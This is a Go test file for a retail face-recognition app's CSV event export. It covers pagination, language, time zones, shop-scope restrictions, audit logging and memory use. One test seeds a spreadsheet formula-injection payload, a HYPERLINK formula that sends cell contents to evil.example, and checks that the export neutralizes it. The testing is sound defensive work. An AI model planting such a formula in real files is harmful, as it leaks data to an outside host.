package handlers_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"storelens/internal/models"
)

var (
	eventIDRe = regexp.MustCompile(`data-event-id="(\d+)"`)
	olderRe   = regexp.MustCompile(`href="/events/history\?([^"]*)" rel="next"`)
)

// olderQuery is the query of a history page's "older" link, "" on the last.
func olderQuery(body string) string {
	if m := olderRe.FindStringSubmatch(body); m != nil {
		return strings.ReplaceAll(m[1], "&amp;", "&")
	}
	return ""
}

// historyIDs walks every page of the history for query (the "older"
// links, as a reader pressing them) and returns the events' ids in order.
func historyIDs(t *testing.T, b *browser, query string) []string {
	t.Helper()
	var ids []string
	path := "/events/history?" + query
	for range 100 {
		r := b.get(path)
		if r.status != http.StatusOK {
			t.Fatalf("%s: %d", path, r.status)
		}
		for _, m := range eventIDRe.FindAllStringSubmatch(r.body, -1) {
			ids = append(ids, m[1])
		}
		older := olderQuery(r.body)
		if older == "" {
			return ids
		}
		path = "/events/history?" + older
	}
	t.Fatal("more than 100 pages")
	return nil
}

// exportRecords downloads a CSV export: it checks the byte-order mark and
// the content type and returns the records.
func exportRecords(t *testing.T, b *browser, path string) [][]string {
	t.Helper()
	r := b.get(path)
	if r.status != http.StatusOK {
		t.Fatalf("%s: %d %s", path, r.status, r.body)
	}
	if ct := r.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("%s: content type %q", path, ct)
	}
	if !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment;") {
		t.Fatalf("%s: not a download: %q", path, r.header.Get("Content-Disposition"))
	}
	if !strings.HasPrefix(r.body, "\ufeff") {
		t.Fatalf("%s: no UTF-8 byte-order mark: %q", path, r.body[:min(len(r.body), 20)])
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", path, err, r.body)
	}
	return recs
}

// column is the cells of the named column (rows after the header).
func column(t *testing.T, recs [][]string, name string) []string {
	t.Helper()
	i := slices.Index(recs[0], name)
	if i < 0 {
		t.Fatalf("no column %q in %v", name, recs[0])
	}
	var out []string
	for _, r := range recs[1:] {
		out = append(out, r[i])
	}
	return out
}

var (
	eventHeaderEN = []string{"Time", "Time zone", "Shop", "Camera", "Type", "Person", "Face ID", "Group", "Group type",
		"Age", "Gender", "Visits", "Detected", "Alert", "Event ID"}
	eventHeaderZH = []string{"时间", "时区", "门店", "摄像机", "类型", "人员", "人脸 ID", "分组", "分组类型",
		"年龄", "性别", "到访次数", "侦测内容", "提醒", "事件 ID"}
)

// The CSV holds exactly the rows the history lists for the same filters,
// every page of them, in the same order: no filter, a group, a person, a
// shop and a day range.
func TestEventsCSVHasThePagesRows(t *testing.T) {
	a := newEventsApp(t)
	base := time.Date(2026, 3, 10, 4, 0, 0, 0, time.UTC) // 12:00 in Shanghai
	for i := range 130 {
		group := "regular"
		if i%3 == 0 {
			group = "vip"
		}
		a.addEvent(t, a.shopA.ID, group, fmt.Sprintf("客%03d", i), base.Add(time.Duration(i)*time.Minute))
	}
	// Two events at the very same time: the keyset pages must not lose
	// or repeat either.
	a.addEvent(t, a.shopA.ID, "vip", "同时甲", base.Add(50*time.Minute))
	a.addEvent(t, a.shopA.ID, "vip", "同时乙", base.Add(50*time.Minute))
	a.addEvent(t, a.shopB.ID, "vip", "乙店客", base.Add(-24*time.Hour))
	admin := a.login("admin", adminPW)
	for _, q := range []url.Values{
		{},
		{"group": {"vip"}},
		{"group": {"VIP"}, "kind": {"face"}},
		{"person": {"客01"}},
		{"shop": {itoa(a.shopA.ID)}, "from": {"2026-03-10"}, "to": {"2026-03-10"}},
		{"shop": {itoa(a.shopB.ID)}},
		{"from": {"2026-03-09"}, "to": {"2026-03-09"}},
	} {
		page := historyIDs(t, admin, q.Encode())
		recs := exportRecords(t, admin, "/events/history.csv?"+q.Encode())
		got := column(t, recs, "Event ID")
		if !slices.Equal(got, page) {
			t.Errorf("%s: the CSV's %d events are not the pages' %d:\n csv %v\npage %v", q.Encode(), len(got), len(page), got, page)
		}
		if len(page) == 0 {
			t.Errorf("%s: the search finds nothing: the test tests nothing", q.Encode())
		}
	}
	// A cursor in the link is the page's position, not a filter: the
	// export still starts at the newest event.
	all := historyIDs(t, admin, "")
	if len(all) != 133 {
		t.Fatalf("the history lists %d events, want 133", len(all))
	}
	second := olderQuery(admin.get("/events/history").body)
	if !strings.Contains(second, "before=") {
		t.Fatalf("no older page: %q", second)
	}
	recs := exportRecords(t, admin, "/events/history.csv?"+second)
	if got := column(t, recs, "Event ID"); !slices.Equal(got, all) {
		t.Errorf("with a page's cursor: %d events, want all %d", len(got), len(all))
	}

	// The page links its export with the filters it shows.
	h := admin.get("/events/history?group=vip&person=" + url.QueryEscape("客") + "&before=1.1")
	h.has(t, `data-testid="history-export"`, `href="/events/history.csv?group=vip&amp;person=%E5%AE%A2"`)
}

// Headers in the reader's language, a byte-order mark, times in the
// shop's zone with its offset, and cells a spreadsheet would run defused.
func TestEventsCSVLanguageAndFormulaCells(t *testing.T) {
	a := newEventsApp(t)
	at := time.Date(2026, 3, 10, 4, 5, 6, 0, time.UTC)
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1 555", "-2", "@SUM(A1)", "\tTab", "\rCR", "Anna, Lee", `say "hi"`, "王丽"}
	for i, n := range names {
		a.addEvent(t, a.shopA.ID, "vip", n, at.Add(time.Duration(i)*time.Second))
	}
	admin := a.login("admin", adminPW)
	en := exportRecords(t, admin, "/events/history.csv")
	if !slices.Equal(en[0], eventHeaderEN) {
		t.Errorf("English header %q", en[0])
	}
	admin.lang = "zh-CN"
	zh := exportRecords(t, admin, "/events/history.csv")
	if !slices.Equal(zh[0], eventHeaderZH) {
		t.Errorf("Chinese header %q", zh[0])
	}
	if got := column(t, zh, "类型")[0]; got != "人脸" {
		t.Errorf("a face event's type in Chinese: %q", got)
	}
	want := []string{"王丽", `say "hi"`, "Anna, Lee", "'\rCR", "'\tTab", "'@SUM(A1)", "'-2", "'+1 555", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`}
	if got := column(t, en, "Person"); !slices.Equal(got, want) {
		t.Errorf("person cells:\n got %q\nwant %q", got, want)
	}
	if got := column(t, en, "Time")[8]; got != "2026-03-10 12:05:06 +08:00" {
		t.Errorf("time %q: not the shop's wall clock with its offset", got)
	}
	if got := column(t, en, "Time zone")[0]; got != "Asia/Shanghai" {
		t.Errorf("zone %q", got)
	}
	if got := column(t, en, "Shop")[0]; got != "Shop A" {
		t.Errorf("shop %q", got)
	}
	if got := column(t, en, "Group type")[0]; got != "Regular" {
		t.Errorf("group type %q", got)
	}

	// Bad dates: the page's own message, nothing exported.
	admin.lang = "en"
	r := admin.get("/events/history.csv?from=10%2F03%2F2026")
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "Enter dates as YYYY-MM-DD.") {
		t.Errorf("bad date: %d %q", r.status, r.body)
	}
}

// A manager exports only the shops they may see, whatever the query asks;
// each export is in the audit log.
func TestEventsCSVScopeAndAudit(t *testing.T) {
	a := newEventsApp(t)
	now := time.Now()
	a.addEvent(t, a.shopA.ID, "vip", "阿兰", now)
	a.addEvent(t, a.shopB.ID, "vip", "秘密客人", now)
	mgr := a.login("manager", managerPW)
	if r := mgr.get("/events/history.csv?shop=" + itoa(a.shopB.ID)); r.status != http.StatusNotFound || strings.Contains(r.body, "秘密客人") {
		t.Errorf("manager of A asks for shop B: %d %q", r.status, r.body)
	}
	for _, q := range []string{"", "group=vip", "person=" + url.QueryEscape("秘密客人"), "person=p秘密客人"} {
		recs := exportRecords(t, mgr, "/events/history.csv?"+q)
		for _, r := range recs[1:] {
			if slices.Contains(r, "秘密客人") || slices.Contains(r, "Shop B") {
				t.Errorf("%q: manager of A got shop B's row %q", q, r)
			}
		}
	}
	if recs := exportRecords(t, mgr, "/events/history.csv"); len(recs) != 2 || !slices.Contains(recs[1], "阿兰") {
		t.Errorf("manager's own rows: %q", recs)
	}
	if r := a.browser().get("/events/history.csv"); r.status != http.StatusSeeOther {
		t.Errorf("signed out: %d", r.status)
	}
	exportRecords(t, mgr, "/events/history.csv?group=vip&shop="+itoa(a.shopA.ID))
	es, _, err := a.st.AuditLog(context.Background(), models.AuditFilter{Action: "events.export"})
	if err != nil {
		t.Fatal(err)
	}
	if len(es) != 6 || es[0].Username != "manager" || es[0].TargetType != "shop" || es[0].TargetID != itoa(a.shopA.ID) || es[0].Detail != "group=vip" {
		t.Fatalf("audit: %d entries, newest %+v", len(es), es[0])
	}
	admin := a.login("admin", adminPW)
	admin.get("/audit?kind=events.export").has(t, "exported events as CSV")
}

// bulkEvents stores n face events of shop at one a second back from end,
// inside the database (a recursive CTE on SQLite, generate_series on
// PostgreSQL): one group in three "vip".
func bulkEvents(tb testing.TB, st *models.Store, shop uint, n int, end time.Time) {
	tb.Helper()
	q := `WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM c WHERE n < ?)
	INSERT INTO events (shop_id, camera_name, device_sn, vendor, source, dedupe_key, kind, occurred_at, received_at,
		person_id, person_name, group_name, group_kind, age_range, gender, visits)
	SELECT ?, '正门入口', 'C201D8BS00101', 'sunmi', 'bench', 'bulk:' || ? || ':' || n, 'face',
		strftime('%Y-%m-%d %H:%M:%S', ? - n, 'unixepoch') || '+00:00', strftime('%Y-%m-%d %H:%M:%S', ? - n, 'unixepoch') || '+00:00',
		printf('%d', 100000 + n % 5000), printf('顾客%04d', n % 5000), CASE WHEN n % 3 = 0 THEN 'vip' ELSE 'regular' END,
		CASE WHEN n % 3 = 0 THEN 'member' ELSE 'regular' END, 1 + n % 8, CASE WHEN n % 2 = 0 THEN 'male' ELSE 'female' END, 1 + n % 40
	FROM c`
	if st.DB().Dialector.Name() == "postgres" {
		// The same rows in PostgreSQL's words.
		q = `INSERT INTO events (shop_id, camera_name, device_sn, vendor, source, dedupe_key, kind, occurred_at, received_at,
		person_id, person_name, group_name, group_kind, age_range, gender, visits)
	SELECT ?, '正门入口', 'C201D8BS00101', 'sunmi', 'bench', 'bulk:' || ?::text || ':' || n, 'face',
		to_timestamp(?::bigint - n), to_timestamp(?::bigint - n),
		(100000 + n % 5000)::text, '顾客' || lpad((n % 5000)::text, 4, '0'), CASE WHEN n % 3 = 0 THEN 'vip' ELSE 'regular' END,
		CASE WHEN n % 3 = 0 THEN 'member' ELSE 'regular' END, 1 + n % 8, CASE WHEN n % 2 = 0 THEN 'male' ELSE 'female' END, 1 + n % 40
	FROM generate_series(1, ?::int) AS n`
		if err := st.DB().Exec(q, shop, fmt.Sprint(shop), end.Unix(), end.Unix(), n).Error; err != nil {
			tb.Fatal(err)
		}
		return
	}
	if err := st.DB().Exec(q, n, shop, shop, end.Unix(), end.Unix()).Error; err != nil {
		tb.Fatal(err)
	}
}

// heapSampler reads a download and samples the live heap (after a
// collection) every sampleEvery bytes: the export's memory while it runs.
type heapSampler struct {
	n, next, rows int64
	base, peak    uint64
}

const sampleEvery = 512 << 10

func newHeapSampler() *heapSampler {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return &heapSampler{next: sampleEvery, base: m.HeapAlloc, peak: m.HeapAlloc}
}

func (h *heapSampler) Write(p []byte) (int, error) {
	h.n += int64(len(p))
	for _, c := range p {
		if c == '\n' {
			h.rows++
		}
	}
	if h.n >= h.next {
		h.next += sampleEvery
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		h.peak = max(h.peak, m.HeapAlloc)
	}
	return len(p), nil
}

func (h *heapSampler) growth() uint64 { return h.peak - h.base }

// download streams path's body into w.
func (b *browser) download(tb testing.TB, path string, w io.Writer) {
	tb.Helper()
	req, _ := http.NewRequest(http.MethodGet, b.a.srv.URL+path, nil)
	resp, err := b.c.Do(req)
	if err != nil {
		tb.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		tb.Fatalf("%s: %d", path, resp.StatusCode)
	}
	if _, err := io.Copy(w, resp.Body); err != nil {
		tb.Fatal(err)
	}
}

// The export streams: 60,000 events (about 7 MB of CSV, some 25 MB as
// events in memory) pass through a live heap that grows by far less than
// the file (one keyset page of 2,000 events and the writer's buffer).
func TestEventsCSVMemoryIsFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("60,000 events")
	}
	a := newEventsApp(t)
	const n = 60_000
	bulkEvents(t, a.st, a.shopA.ID, n, time.Now().Add(-time.Hour))
	admin := a.login("admin", adminPW)
	h := newHeapSampler()
	admin.download(t, "/events/history.csv", h)
	if h.rows != n+1 {
		t.Fatalf("%d lines, want %d", h.rows, n+1)
	}
	t.Logf("%d bytes of CSV; live heap grew by at most %.1f MiB", h.n, float64(h.growth())/(1<<20))
	// Held whole, the rows would take some 25 MB as events, the file 7 MB.
	if h.growth() > uint64(h.n)*2/3 {
		t.Errorf("the live heap grew by %d bytes over a %d-byte export: not streamed", h.growth(), h.n)
	}
}

// BenchmarkEventsExport (BENCHMARKS.md, exports): GET /events/history.csv
// through the real router on STORELENS_EXPORT_EVENTS events (200,000
// unless set) of one shop, and with the group filter "vip" (a third of
// them): rows/s, bytes and allocations per row, and the peak growth of the
// live heap while it streams.
func BenchmarkEventsExport(b *testing.B) {
	n := int(envDuration("STORELENS_EXPORT_EVENTS", 200_000))
	a := newEventsApp(b)
	bulkEvents(b, a.st, a.shopA.ID, n, time.Now().Add(-time.Hour))
	admin := a.login("admin", adminPW)
	for _, c := range []struct{ name, query string }{{"all", ""}, {"group", "group=vip"}} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			var rows int64
			cpu0 := cpuTime()
			for b.Loop() {
				h := &heapSampler{next: 1 << 62} // counts, never samples
				admin.download(b, "/events/history.csv?"+c.query, h)
				rows += h.rows - 1
			}
			b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "rows/s")
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(rows), "ns/row")
			// The process's CPU time per row (server and client): what the
			// export costs whatever else the machine runs.
			b.ReportMetric(float64(rows)/(cpuTime()-cpu0).Seconds(), "rows/cpu-s")
			// One more run, untimed, sampling the live heap as it streams.
			b.StopTimer()
			h := newHeapSampler()
			admin.download(b, "/events/history.csv?"+c.query, h)
			b.ReportMetric(float64(h.growth())/(1<<20), "peak-heap-MiB")
			b.ReportMetric(float64(h.rows-1), "rows")
		})
	}
}

// cpuTime is the CPU time this process has used (user and system).
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
